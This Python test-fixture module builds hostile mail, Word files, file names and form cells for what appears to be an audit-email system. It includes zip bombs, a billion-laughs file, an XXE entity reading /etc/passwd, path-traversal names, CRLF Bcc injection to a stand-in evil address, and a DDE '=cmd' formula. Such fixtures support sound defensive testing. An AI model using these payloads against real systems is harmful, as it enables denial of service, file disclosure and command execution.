"""Mail, files and cells made to cost time or memory, to break out of their place, or to be taken for something else."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from typing import Any

from false_senders import GUEST
from forms import filled
from office import attached
from word_files import NAMES, RELATIONS, TYPES, docx, p, packed, t, table, tc, tr

OTHER = "FSP-2026-03-002"
PICTURE = "word/media/a_picture_of_zeros.png"
JsonObject = dict[str, Any]
Hostile = Callable[[bytes], JsonObject]
"""From the blank form of the second audit to what is hostile in a message about it."""


def _body(html: str) -> Hostile:
    return lambda _: {"html": html}


def _file(data: Callable[[bytes], bytes], name: str = f"{OTHER}.docx") -> Hostile:
    return lambda blank: {"attachments": attached(name, data(blank))}


def _named(name: str) -> Hostile:
    return lambda blank: {"attachments": attached(name, filled(blank, grade="Good"))}


def _with(change: Callable[[str], str]) -> Callable[[bytes], bytes]:
    """The form, filled in, its document's XML changed."""

    def made(blank: bytes) -> bytes:
        with zipfile.ZipFile(io.BytesIO(filled(blank, grade="Good"))) as package:
            parts = {info.filename: package.read(info) for info in package.infolist()}
        parts["word/document.xml"] = change(parts["word/document.xml"].decode()).encode()
        return packed(parts)

    return made


def _span(xml: str) -> str:
    return re.sub(r"<w:tcPr>", '<w:tcPr><w:gridSpan w:val="50000000"/>', xml)


def _picture(megabytes: int) -> Callable[[bytes], bytes]:
    """The form, filled in, with a picture of zeros."""

    def made(blank: bytes) -> bytes:
        out = io.BytesIO(filled(blank, grade="Good"))
        with (
            zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package,
            package.open(PICTURE, "w") as picture,
        ):
            for _ in range(megabytes):
                picture.write(_zeros(1))
        return out.getvalue()

    return made


def _zeros(megabytes: int) -> bytes:
    return b"\0" * (megabytes << 20)


def _lies_about_its_size(blank: bytes) -> bytes:
    """The form with a picture of half a gigabyte that declares 5,000 bytes, in both of its headers."""
    data = bytearray(_picture(500)(blank))
    for mark, size_at, name_at in ((b"PK\3\4", 22, 30), (b"PK\1\2", 24, 46)):
        at = data.find(PICTURE.encode())
        while bytes(data[at - name_at : at - name_at + 4]) != mark:
            at = data.find(PICTURE.encode(), at + 1)
        struct.pack_into("<I", data, at - name_at + size_at, 5_000)
    return bytes(data)


def _many_members(_: bytes) -> bytes:
    return packed({f"word/{n}.xml": b"<a/>" for n in range(20_000)})


def _nested(_: bytes) -> bytes:
    inner = packed({"a.bin": _zeros(10)})
    for n in range(4):
        inner = packed({f"{n}-{k}.zip": inner for k in range(10)})
    return inner


def _entities(_: bytes) -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    xml = f'<!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]><w:document {NAMES}><w:body>{p(t("&l9;"))}</w:body></w:document>'
    return packed({"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, "word/document.xml": xml})


def _outside_file(_: bytes) -> bytes:
    xml = (f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {NAMES}><w:body>{p(t("&x;"))}'
           "</w:body></w:document>")  # fmt: skip
    return packed({"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, "word/document.xml": xml})


def _many_files(blank: bytes) -> JsonObject:
    form = filled(blank, grade="Good")
    return {
        "attachments": [each for n in range(500) for each in attached(f"{OTHER} {n}.docx", form + b"%d" % n)]
    }


def _message_in_message(blank: bytes) -> JsonObject:
    inner: EmailMessage | None = None
    for n in range(60):
        message = EmailMessage()
        message["Subject"], message["From"] = f"FW: {n}", "ada.auditor@wexcombe.example"
        message.set_content("See below.")
        if inner is None:
            message.add_attachment(filled(blank, grade="Good"), maintype="application", subtype="octet-stream",
                                   filename=f"{OTHER}.docx")  # fmt: skip
        else:
            message.add_attachment(inner)
        inner = message
    assert inner
    return {"attachments": attached("thread.eml", bytes(inner))}


SUBJECT_OF_TEN_THOUSAND = f"RE: Audit {OTHER} " + "word [" * 1_660

MAIL: dict[str, Hostile] = {
    "a body of links cut short": _body("https://" * 5_000),
    "a body of links to files cut short": _body("https://wexcombe.sharepoint.com/:w:/g/" * 1_200),
    "a body of five megabytes": _body("<p>word word word </p>" * 250_000),
    "a body of one long word": _body(f"<p>{'a' * 1_000_000}</p>"),
    "a body nested 20,000 deep": _body("<div>" * 20_000 + "x" + "</div>" * 20_000),
    "a table nested 3,000 deep": _body("<table><tr><td>" * 3_000 + "x"),
    "a body of open brackets": _body("<" * 40_000),
    "a body of comments": _body("<!--" * 10_000),
    "a body of half addresses": _body("a@" * 20_000),
    "a body of half links": _body("<a href='" * 8_000),
    "a body of quotations": _body("<blockquote>From: a<br>Sent: b<br>" * 3_000),
    "a body of blanks": _body("<p>" + " \t\u00a0" * 30_000 + "x</p>"),
    "a body of dates": _body("1/1/2026 and " * 8_000),
    "a body of references": _body("FSP-2026-03-0" * 8_000),
    "a body of half words for a button": _body("UoPP held on: " * 6_000),
    "a body of hyphens and digits": _body("0-" * 40_000),
    "a body of entities": _body("&amp;" * 40_000 + "&#" * 20_000),
    "a body of styles": _body("<style>" * 10_000 + "</style" * 10_000),
    "a subject of 10,000 characters": lambda _: {"subject": SUBJECT_OF_TEN_THOUSAND},
    "a subject of brackets": lambda _: {"subject": f"[{OTHER} " * 700},
    "a subject of REs": lambda _: {"subject": "RE: FW: " * 1_200 + OTHER},
    "500 attachments": _many_files,
    "messages in messages": _message_in_message,
}  # fmt: skip

FILES: dict[str, Hostile] = {
    "a cell over fifty million columns": _file(_with(_span)),
    "a table of 20,000 rows": _file(lambda _: docx(table(*(tr(tc(p(t(str(n))))) for n in range(20_000))))),
    "a document of a hundred megabytes": _file(lambda _: docx("<w:p/>" * 16_000_000)),
    "a picture of half a gigabyte": _file(_picture(500)),
    "a size that is a lie": _file(_lies_about_its_size),
    "20,000 members": _file(_many_members),
    "a bomb of archives": _file(_nested, f"{OTHER}.zip"),
    "a billion laughs": _file(_entities),
    "a file of the machine": _file(_outside_file),
    "a document 100,000 deep": _file(lambda _: docx("<w:p>" * 100_000 + "</w:p>" * 100_000)),
    "a text of fifty megabytes": _file(lambda _: docx(p(t("word " * 10_000_000)))),
    "half a file": _file(lambda blank: filled(blank, grade="Good")[:-2_000]),
    "no file": _file(lambda _: b""),
    "random bytes": _file(lambda _: bytes(n * n % 251 for n in range(50_000))),
    "an old Word file": _file(lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100_000),
    "a PDF that calls itself Word": _file(lambda _: b"%PDF-1.7\n" * 10_000),
}  # fmt: skip

NAMES_OF_FILES: dict[str, Hostile] = {
    "a name that climbs": _named(f"../../../../{OTHER}.docx"),
    "a name from the root": _named("/etc/cron.d/audit.docx"),
    "a name of Windows": _named("C:\\Windows\\System32\\..\\drivers\\x.docx"),
    "a name with controls": _named("a\r\nb\x00c\x07d\x1b[31m.docx"),
    "a name written backwards": _named("audit\u202excod.docx"),
    "a name of dots": _named("..docx"),
    "a name of a device": _named("CON.docx"),
    "a name of 2,000 letters": _named("a" * 2_000 + ".docx"),
    "a name of a query": _named("x.docx?$filter=1 eq 1#%2e%2e%2f'.docx"),
    "a name that is nothing": _named(""),
}  # fmt: skip

EVIL = "evil@elsewhere.example"
CELLS: dict[str, dict[str, str]] = {
    "a reference that climbs": {"Title": "../../x"},
    "a reference with a slash": {"Title": "FSP/2026/002"},
    "a reference with a climb inside": {"Title": "FSP-2026-03-002/../../../Shared Documents/x"},
    "a reference that is only dots": {"Title": ".."},
    "a reference with a line break": {"Title": f"FSP-2026-03-002\r\nBcc: {EVIL}"},
    "a reference with a query": {"Title": "FSP-2026-03-002?$select=id#'"},
    "a reference of 255 letters": {"Title": "F" * 255},
    "a reference that is a formula": {"Title": f'=HYPERLINK("https://elsewhere.example","{OTHER}")'},
    "line breaks in every text": dict.fromkeys(
        ("Team", "Child's name", "Mosaic number", "Note"), f"x\r\nBcc: {EVIL}\r\n\r\n<b>"
    ),
    "formulas in every text": dict.fromkeys(("Team", "Child's name", "Note"), '=cmd|"/c calc"!A1'),
    "markup in every text": dict.fromkeys(("Team", "Child's name", "Note"), "<img src=x>]]></w:t>{{7*7131}}{%x%}"),
    "a cell of one megabyte": {"Note": "word " * 200_000},
    "controls in every text": dict.fromkeys(("Team", "Note"), "a\x00b\x07\u202ec��"),
    "a line for held letters of one megabyte": {"Hold letters": "hold " * 200_000},
    "a guest as a manager": {"Team Manager": GUEST},
}  # fmt: skip


def of_the_short_form() -> Iterator[str]:
    """All that a look can be given at once without the sandbox's own work taking long."""
    long = (
        "a document of a hundred",
        "a picture of half",
        "500 attachments",
        "a text of fifty",
        "a size that",
        "a bomb",
    )
    yield from (name for name in {**MAIL, **FILES, **NAMES_OF_FILES} if not name.startswith(long))
